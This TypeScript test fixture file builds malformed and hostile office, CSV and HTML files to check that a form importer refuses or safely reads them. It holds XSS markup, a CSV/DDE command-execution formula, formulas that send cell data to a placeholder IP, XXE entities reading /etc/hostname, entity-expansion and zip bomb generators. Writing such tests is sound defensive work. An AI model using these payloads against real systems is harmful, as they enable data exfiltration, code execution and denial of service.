/**
 * Files that must be refused: broken, dressed up as something else, locked, harmful, too large. Made when they are needed.
 */
import { deflateSync, strToU8, zipSync } from 'fflate';

import { utils } from '@e965/xlsx';
import type { WorkSheet } from '@e965/xlsx';

import { record, writeBiff } from '../import/write-biff';
import { packageOf } from './write-ooxml';

export type BadFile = {
	file: string;
	about: string;
	make: () => Uint8Array;
	/** It holds a form all the same: read within the same bounds, nothing of it executed, fetched or computed. */
	isRead?: true;
};

const DAY = new Date( 2021, 0, 12, 8 );
const row = '<w:tr><w:tc><w:p><w:r><w:t>Số học sinh chia theo hạnh kiểm</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>407</w:t></w:r></w:p></w:tc></w:tr>';
const body = `<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>${ row.repeat( 8 ) }</w:tbl>`;
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const documentOf = ( inner: string, before = '' ): string =>
	`<?xml version="1.0" encoding="UTF-8"?>\n${ before }<w:document ${ W }><w:body>${ inner }</w:body></w:document>`;

/** Compound file of old Office and of password protected new Office; the names of its streams tell which. */
function compound( streams: string[], length = 8192 ): Uint8Array {
	const file = new Uint8Array( length );
	file.set( [ 0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1 ] );
	const view = new DataView( file.buffer );
	view.setUint16( 24, 0x3e, true );
	view.setUint16( 26, 3, true );
	view.setUint16( 28, 0xfffe, true );
	view.setUint16( 30, 9, true );
	view.setUint16( 32, 6, true );
	view.setUint32( 44, 1, true );
	view.setUint32( 48, 1, true );
	view.setUint32( 56, 4096, true );
	view.setUint32( 60, 0xfffffffe, true );
	view.setUint32( 68, 0xfffffffe, true );
	file.fill( 0xff, 76, 512 );
	view.setUint32( 76, 0, true );
	file.fill( 0xff, 512, 1024 );
	view.setUint32( 512, 0xfffffffd, true );
	view.setUint32( 516, 0xfffffffe, true );
	[ 'Root Entry', ...streams ].forEach( ( name, index ) => {
		const at = 1024 + index * 128;
		Array.from( name ).forEach( ( letter, place ) =>
			view.setUint16( at + place * 2, letter.charCodeAt( 0 ), true )
		);
		view.setUint16( at + 64, ( name.length + 1 ) * 2, true );
		view.setUint8( at + 66, index === 0 ? 5 : 2 );
		[ 68, 72, 76 ].forEach( ( link ) => view.setUint32( at + link, 0xffffffff, true ) );
		if ( index === 0 ) {
			view.setUint32( at + 76, 1, true );
		}
	} );
	return file;
}

/** A package whose directory tells other sizes than its parts have. */
function lying( size: number ): Uint8Array {
	const file = packageOf( body + `<w:p><w:r><w:t>${ '0'.repeat( 60_000_000 ) }</w:t></w:r></w:p>` );
	const view = new DataView( file.buffer, file.byteOffset, file.length );
	for ( let at = 0; at < file.length - 46; at++ ) {
		const signature = view.getUint32( at, true );
		if ( signature === 0x02014b50 && view.getUint32( at + 24, true ) > 1_000_000 ) {
			view.setUint32( at + 24, size, true );
		}
		if ( signature === 0x04034b50 && view.getUint32( at + 22, true ) > 1_000_000 ) {
			view.setUint32( at + 22, size, true );
		}
	}
	return file;
}

function flagged( bit: number ): Uint8Array {
	const file = packageOf( body );
	const view = new DataView( file.buffer, file.byteOffset, file.length );
	for ( let at = 0; at < file.length - 46; at++ ) {
		const signature = view.getUint32( at, true );
		if ( signature === 0x02014b50 ) {
			view.setUint16( at + 8, view.getUint16( at + 8, true ) | bit, true );
		}
		if ( signature === 0x04034b50 ) {
			view.setUint16( at + 6, view.getUint16( at + 6, true ) | bit, true );
		}
	}
	return file;
}

function utf16( text: string, isLittle = true ): Uint8Array {
	const bytes = new Uint8Array( 2 + text.length * 2 );
	const view = new DataView( bytes.buffer );
	view.setUint16( 0, 0xfeff, isLittle );
	Array.from( { length: text.length }, ( _, index ) =>
		view.setUint16( 2 + index * 2, text.charCodeAt( index ), isLittle )
	);
	return bytes;
}

/** A small filled form; `odd` are texts of its further rows. */
const formLines = ( odd: string[] ): ( string | number )[][] => [
	[ 'STT', 'Nội dung', 'Tổng số', 'Lớp 6', 'Lớp 7', 'Lớp 8', 'Lớp 9' ],
	[ 'I', 'Số học sinh chia theo hạnh kiểm', 407, 104, 111, 97, 95 ],
	[ '1', 'Tốt', 300, 80, 80, 70, 70 ],
	[ '2', 'Khá', 100, 20, 30, 25, 25 ],
	...odd.map( ( text ) => [ '3', text, text, 1, 2, 3, 4 ] ),
];
const QUIET: string[] = [];
const MARKUP = [ '<img src="http://192.0.2.1/x.png" onerror="alert(1)">', '<script>alert(1)</script>', '"><svg onload=alert(1)>' ];
const FORMULAS = [ '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3' ];
const xmlText = ( text: string ): string => text.replace( /&/g, '&amp;' ).replace( /</g, '&lt;' ).replace( />/g, '&gt;' );

const formRows = ( odd: string[] ): string =>
	formLines( odd )
		.map( ( line, index ) => {
			const cells = line.map( ( text, column ) => {
				const at = `${ String.fromCharCode( 65 + column ) }${ index + 1 }`;
				return typeof text === 'number' ? `<c r="${ at }"><v>${ text }</v></c>` : `<c r="${ at }" t="inlineStr"><is><t>${ xmlText( text ) }</t></is></c>`;
			} );
			return `<row r="${ index + 1 }">${ cells.join( '' ) }</row>`;
		} )
		.join( '' );
const csv = ( odd: string[] ): string =>
	formLines( odd )
		.map( ( line ) => line.map( ( text ) => `"${ String( text ).replace( /"/g, '""' ) }"` ).join( ';' ) )
		.join( '\r\n' );
const page = ( odd: string[] ): string =>
	`<html><head><base href="http://192.0.2.1/"><link rel=stylesheet href="http://192.0.2.1/x.css"><style>@import "http://192.0.2.1/y.css"; td{background:url(http://192.0.2.1/z.png)}</style><script>document.body.textContent = '';</script></head><body onload="alert(1)"><iframe src="http://192.0.2.1/"></iframe><img src="http://192.0.2.1/i.png"><table>${ formLines( odd )
		.map( ( line ) => `<tr>${ line.map( ( text ) => `<td>${ xmlText( String( text ) ) }</td>` ).join( '' ) }</tr>` )
		.join( '' ) }</table></body></html>`;

const filled = ( rows: number, columns: number ) =>
	utils.aoa_to_sheet( Array.from( { length: rows }, ( _, index ) => Array.from( { length: columns }, () => index ) ) );
const oldSheet = [ { name: 'S', sheet: utils.aoa_to_sheet( formLines( QUIET ) ) } ];

function claiming(): WorkSheet {
	const sheet = utils.aoa_to_sheet( formLines( QUIET ) );
	sheet[ '!rows' ] = Array.from( { length: 65_536 }, ( _, index ) => ( { hidden: index > 20 } ) );
	sheet[ '!cols' ] = Array.from( { length: 256 }, ( _, index ) => ( { hidden: index > 8 } ) );
	return sheet;
}

/** The first sectors of the table of sectors lead to each other. */
function ring(): Uint8Array {
	const file = writeBiff( [ { name: 'S', sheet: filled( 300, 8 ) } ] );
	const view = new DataView( file.buffer, file.byteOffset, file.length );
	const table = ( view.getUint32( 76, true ) + 1 ) * 512;
	for ( let index = 0; index < 128; index++ ) {
		if ( view.getUint32( table + index * 4, true ) < 0xfffffff0 ) {
			view.setUint32( table + index * 4, index === 3 ? 4 : 3, true );
		}
	}
	return file;
}

function openDocument( kind: string ): Uint8Array {
	return zipSync(
		{
			mimetype: [ strToU8( `application/vnd.oasis.opendocument.${ kind }` ), { level: 0 } ],
			'content.xml': strToU8( '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>' ),
		},
		{ mtime: DAY }
	);
}

const ENTITIES = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n';

function workbook( cells: string, more: Record< string, string > = {}, before = '' ): Uint8Array {
	const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
	const parts: Record< string, string > = {
		'[Content_Types].xml': `${ head }<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
		'_rels/.rels': `${ head }<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		'xl/_rels/workbook.xml.rels': `${ head }<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
		'xl/workbook.xml': `${ head }<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		'xl/worksheets/sheet1.xml': `${ head }<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${ before }<sheetData>${ cells }</sheetData></worksheet>`,
		...more,
	};
	return zipSync(
		Object.fromEntries( Object.entries( parts ).map( ( [ name, part ] ) => [ name, strToU8( part ) ] ) ),
		{ level: 6, mtime: DAY }
	);
}

const sheetRows = ( rows: number, columns: number ): string =>
	Array.from(
		{ length: rows },
		( _, index ) =>
			`<row r="${ index + 1 }">${ Array.from( { length: columns }, ( __, column ) => `<c r="${ String.fromCharCode( 65 + column ) }${ index + 1 }"><v>${ index }</v></c>` ).join( '' ) }</row>`
	).join( '' );

const JPEG = new Uint8Array( [ 0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9 ] );
const PDF = strToU8( '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n' );
const HTML = '<html><head><meta charset="utf-8"></head><body><table><tr><td>STT</td><td>Nội dung</td><td>Tổng số</td></tr></table></body></html>';

export const BAD: BadFile[] = [
	{ file: 'password.docx', about: 'protected by a password', make: () => compound( [ 'EncryptionInfo', 'EncryptedPackage' ] ) },
	{ file: 'password.xlsx', about: 'protected by a password', make: () => compound( [ 'EncryptedPackage', 'EncryptionInfo' ] ) },
	{ file: 'old.doc', about: 'Word 97-2003', make: () => compound( [ 'WordDocument', '1Table' ] ) },
	{ file: 'rtf.doc', about: 'RTF called .doc', make: () => strToU8( '{\\rtf1\\ansi\\trowd 407\\cell\\row}' ) },
	{ file: 'word-2003.doc', about: 'XML of Word 2003 called .doc', make: () => strToU8( '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>' ) },
	{ file: 'empty-workbook.xls', about: 'an old workbook without content', make: () => compound( [ 'Workbook' ] ) },
	{ file: 'password.xls', about: 'old Excel, protected by a password', make: () => writeBiff( oldSheet, { globals: record( 0x2f, [ 1, 0, 1, 0 ] ) } ) },
	{ file: 'macro.xls', about: 'old Excel with macros', make: () => writeBiff( oldSheet, { streams: { '/_VBA_PROJECT_CUR/VBA/dir': [ 1, 2, 3 ] } } ) },
	{ file: 'macro-as-new.xlsx', about: 'old Excel with macros under a new name', make: () => writeBiff( oldSheet, { streams: { '/_VBA_PROJECT_CUR/VBA/dir': [ 1, 2, 3 ] } } ) },
	{ file: 'macro-sheet.xls', about: 'old Excel with a macro sheet', make: () => writeBiff( oldSheet, { globals: record( 0x85, [ 0, 0, 0, 0, 0, 1, 1, 1, 65, 0 ] ) } ) },
	{ file: 'truncated.xls', about: 'old Excel, cut off in the middle', make: () => writeBiff( oldSheet ).slice( 0, 1600 ) },
	{ file: 'ring.xls', about: 'old Excel whose sectors lead back to each other', make: ring },
	{ file: 'cells.xls', about: 'old Excel with 60,000 cells', make: () => writeBiff( [ { name: 'S', sheet: filled( 6000, 10 ) } ] ) },
	{ file: 'sheet.ods', about: 'LibreOffice', make: () => openDocument( 'spreadsheet' ) },
	{ file: 'text.odt', about: 'LibreOffice', make: () => openDocument( 'text' ) },
	{ file: 'truncated.docx', about: 'cut off in the middle', make: () => packageOf( body ).slice( 0, 900 ) },
	{ file: 'no-directory.docx', about: 'the end of the zip is gone', make: () => packageOf( body ).slice( 0, -60 ) },
	{ file: 'bomb.docx', about: '600 MB of the same letter', make: () => bomb( 600 ) },
	{ file: 'bomb-media.xlsx', about: 'a worksheet and 60 MB in another part', make: () => workbook( sheetRows( 3, 3 ), { 'xl/media/image1.emf': ' '.repeat( 60_000_000 ) } ) },
	{ file: 'lying-small.docx', about: 'the directory says 1,000 bytes, the part has 60 MB', make: () => lying( 1000 ) },
	{ file: 'lying-zero.docx', about: 'the directory says 0 bytes, the part has 60 MB', make: () => lying( 0 ) },
	{ file: 'encrypted-parts.docx', about: 'zip encryption', make: () => flagged( 1 ) },
	{ file: 'macro.docx', about: 'a macro part', make: () => packageOf( body, { 'word/vbaProject.bin': compound( [ 'VBA' ] ) } ) },
	{ file: 'macro.xlsx', about: 'a macro part', make: () => workbook( sheetRows( 3, 3 ), { 'xl/VbaProject.BIN': 'x' } ) },
	{ file: 'doctype.docx', about: 'DOCTYPE with entities in the document', make: () => packageOf( body, { 'word/document.xml': documentOf( body, ENTITIES ) } ) },
	{ file: 'doctype-comment.docx', about: 'DOCTYPE behind a comment', make: () => packageOf( body, { 'word/document.xml': documentOf( body, `<!-- ${ 'x'.repeat( 5000 ) } -->${ ENTITIES }` ) } ) },
	{ file: 'doctype-utf16.docx', about: 'DOCTYPE in a UTF-16 part', make: () => packageOf( body, { 'word/document.xml': utf16( documentOf( body, ENTITIES ).replace( 'UTF-8', 'UTF-16' ) ) } ) },
	{ file: 'doctype-utf16-big.docx', about: 'DOCTYPE in a big-endian UTF-16 part', make: () => packageOf( body, { 'word/styles.xml': utf16( documentOf( '', ENTITIES ).replace( 'UTF-8', 'UTF-16' ), false ) } ) },
	{ file: 'doctype.xlsx', about: 'DOCTYPE in a worksheet', make: () => workbook( '', { 'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>` } ) },
	{ file: 'picture.xlsx', about: 'a JPEG', make: () => JPEG },
	{ file: 'page.xls', about: 'a web page', make: () => strToU8( HTML ) },
	{ file: 'page.csv', about: 'a web page', make: () => strToU8( HTML ) },
	{ file: 'empty.docx', about: 'nothing', make: () => new Uint8Array() },
	{ file: 'empty.csv', about: 'nothing', make: () => new Uint8Array() },
	{ file: 'blank.csv', about: 'a mark and blanks', make: () => strToU8( '\ufeff \r\n;;;\r\n' ) },
	{ file: 'large.docx', about: 'more than 5 MB', make: () => packageOf( body, { 'word/media/image1.jpeg': noise( 5_600_000 ) } ) },
	{ file: 'large.csv', about: 'more than 5 MB', make: () => strToU8( 'STT;Nội dung;Tổng số\n'.repeat( 260_000 ) ) },
	{ file: 'cells.xlsx', about: '60,000 cells', make: () => workbook( sheetRows( 6000, 10 ) ) },
	{ file: 'cells.csv', about: '60,000 cells', make: () => strToU8( '1,2,3,4,5,6,7,8,9,10\n'.repeat( 6000 ) ) },
	{ file: 'cells.docx', about: '60,000 cells', make: () => packageOf( `<w:tbl><w:tblGrid/>${ `<w:tr>${ '<w:tc><w:p><w:r><w:t>7</w:t></w:r></w:p></w:tc>'.repeat( 20 ) }</w:tr>`.repeat( 3000 ) }</w:tbl>` ) },
	{ file: 'paper.docx', about: 'a PDF', make: () => PDF },
	{ file: 'legacy.csv', about: 'an old Vietnamese encoding', make: () => new Uint8Array( [ ...strToU8( 'STT;N' ), 0xe9, 0x69, ...strToU8( ' dung;T' ), 0xe6, 0x6e, 0x67, 0x0a, 0x31, 0x3b, 0xd2, 0x3b, 0x35, 0x0a ] ) },
	{ file: 'nothing-of-ours.docx', about: 'a document without a table', make: () => packageOf( '<w:p><w:r><w:t>Kế hoạch năm học 2020-2021</w:t></w:r></w:p>' ) },
	{ file: 'nested.docx', about: 'a zip that holds a Word file', make: () => zipSync( { 'bieu-mau-10.docx': packageOf( body ) }, { mtime: DAY } ) },
	{ file: 'entities.docx', about: 'an entity that nobody declared', make: () => packageOf( body.replace( '407', '&xxe;' ).replaceAll( '</w:tr>', '' ) ) },
	{ file: 'deep.docx', about: 'tables in tables, 4,000 deep', make: () => packageOf( '<w:tbl><w:tr><w:tc>'.repeat( 4000 ) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat( 4000 ) ) },
	{ file: 'million.xlsx', about: 'a million cells', make: () => workbook( '<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c><c><v>4</v></c></row>'.repeat( 250_000 ) ) },
	{ file: 'texts.xlsx', about: 'a million texts that no cell shows', make: () => workbook( '<row><c><v>1</v></c></row>', { 'xl/sharedStrings.xml': `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${ '<si><t>a</t></si>'.repeat( 1_000_000 ) }</sst>` } ) },
	{ file: 'sheets.xlsx', about: '20,000 sheets that lead to one part', make: () => workbook( formRows( QUIET ), { 'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${ Array.from( { length: 20_000 }, ( _, at ) => `<sheet name="S${ at }" sheetId="${ at + 1 }" r:id="rId1"/>` ).join( '' ) }</sheets></workbook>` } ) },
	{ file: 'line.csv', about: 'two million values in one line', make: () => strToU8( 'a,'.repeat( 2_000_000 ) ) },
	{ file: 'million.csv', about: 'a million cells', make: () => strToU8( '1,'.repeat( 49 ).concat( '1\n' ).repeat( 20_000 ) ) },
	{ file: 'million.html', about: 'a million cells', make: () => strToU8( `<table>${ '<td>1'.repeat( 50 ).concat( '<tr>' ).repeat( 19_000 ) }</table>` ) },
	{ file: 'list.xlsx', about: '5,000 rows', make: () => workbook( sheetRows( 5000, 8 ) ) },
	{ file: 'list.csv', about: '5,000 rows', make: () => strToU8( 'Số học sinh chia theo hạnh kiểm;407;104;111;97;95\n'.repeat( 5000 ) ) },
	{ file: 'list.docx', about: '5,000 rows', make: () => packageOf( `<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>${ row.repeat( 5000 ) }</w:tbl>` ) },
	{ file: 'list.html', about: '5,000 rows', make: () => strToU8( `<table>${ '<tr><td>Số học sinh chia theo hạnh kiểm<td>407'.repeat( 5000 ) }</table>` ) },
	{ file: 'entities.html', about: 'a page with entities of its own', make: () => strToU8( `<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${ HTML }` ) },
	{ file: 'doctype.xls', about: 'XML Spreadsheet 2003 with an external entity', make: () => strToU8( '<?xml version="1.0"?><!DOCTYPE Workbook [<!ENTITY e SYSTEM "file:///etc/hostname">]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>' ) },
	{ file: 'deep.html', about: 'tables in tables, 100,000 deep', make: () => strToU8( '<table><tr><td>'.repeat( 100_000 ) ) },
	{ file: 'spans.html', about: 'cells over 65,000 rows and columns each', make: () => strToU8( `<table>${ '<tr>'.concat( '<td rowspan=65000 colspan=65000>1'.repeat( 3 ) ).repeat( 20_000 ) }</table>` ) },
	{ file: 'open.html', about: '400,000 elements that nothing closes', make: () => strToU8( '<font face=".VnTime">1 '.repeat( 200_000 ) ) },
	{ file: 'archive.xls', about: 'a web archive called .xls', make: () => strToU8( 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\n' ) },
	{ file: 'claims.xlsx', about: 'a form on a sheet that claims a million rows and all columns', isRead: true, make: () => workbook( `${ formRows( QUIET ) }<row r="1048576" spans="1:16384" hidden="1"/>`, {}, '<dimension ref="A1:XFD1048576"/><cols><col min="9" max="16384" width="9" hidden="1"/></cols>' ) },
	{ file: 'claims.xls', about: 'a form on an old sheet that claims all rows and columns', isRead: true, make: () => writeBiff( [ { name: 'S', sheet: claiming() } ] ) },
	{ file: 'markup.xlsx', about: 'a form with markup and scripts in its labels', isRead: true, make: () => workbook( formRows( MARKUP ) ) },
	{ file: 'markup.html', about: 'a form on a page with scripts, frames and pictures from elsewhere', isRead: true, make: () => strToU8( page( MARKUP ) ) },
	{ file: 'formulas.csv', about: 'a form with texts that spreadsheets would compute', isRead: true, make: () => strToU8( csv( FORMULAS ) ) },
	{ file: 'formulas.xlsx', about: 'a form with formulas that reach out and texts that look like some', isRead: true, make: () => workbook( `${ formRows( FORMULAS ) }<row r="9"><c r="A9" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f></c><c r="B9"><f>HYPERLINK("http://192.0.2.1/","x")</f></c></row>` ) },
	{ file: 'rows.xlsx', about: 'a merged area over the whole sheet and a cell in its last corner', make: () => workbook( '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' ) },
];

/** Made in pieces, so that making it does not take what it would take. */
function bomb( megabytes: number ): Uint8Array {
	const name = strToU8( 'word/document.xml' );
	const packed = deflateSync( new Uint8Array( megabytes * 1_000_000 ), { level: 9 } );
	const local = new Uint8Array( 30 + name.length );
	const entry = new Uint8Array( 46 + name.length );
	const end = new Uint8Array( 22 );
	const size = megabytes * 1_000_000;
	const fill = ( target: Uint8Array, words: [ number, number ][] ): void => {
		const view = new DataView( target.buffer );
		words.forEach( ( [ at, value ] ) => view.setUint32( at, value, true ) );
	};
	fill( local, [ [ 0, 0x04034b50 ], [ 4, 20 ], [ 18, packed.length ], [ 22, size ] ] );
	local[ 8 ] = 8;
	local[ 26 ] = name.length;
	local.set( name, 30 );
	fill( entry, [ [ 0, 0x02014b50 ], [ 4, 0x00140014 ], [ 20, packed.length ], [ 24, size ] ] );
	entry[ 10 ] = 8;
	entry[ 28 ] = name.length;
	entry.set( name, 46 );
	fill( end, [ [ 0, 0x06054b50 ], [ 12, entry.length ], [ 16, local.length + packed.length ] ] );
	end[ 8 ] = 1;
	end[ 10 ] = 1;
	const file = new Uint8Array( local.length + packed.length + entry.length + end.length );
	file.set( local );
	file.set( packed, local.length );
	file.set( entry, local.length + packed.length );
	file.set( end, local.length + packed.length + entry.length );
	return file;
}

function noise( length: number ): Uint8Array {
	const bytes = new Uint8Array( length );
	let state = 1;
	for ( let index = 0; index < length; index++ ) {
		state = Math.imul( state ^ ( state >>> 15 ), 0x2c1b3c6d ) + 0x6d2b79f5;
		bytes[ index ] = state >>> 24;
	}
	return bytes;
}
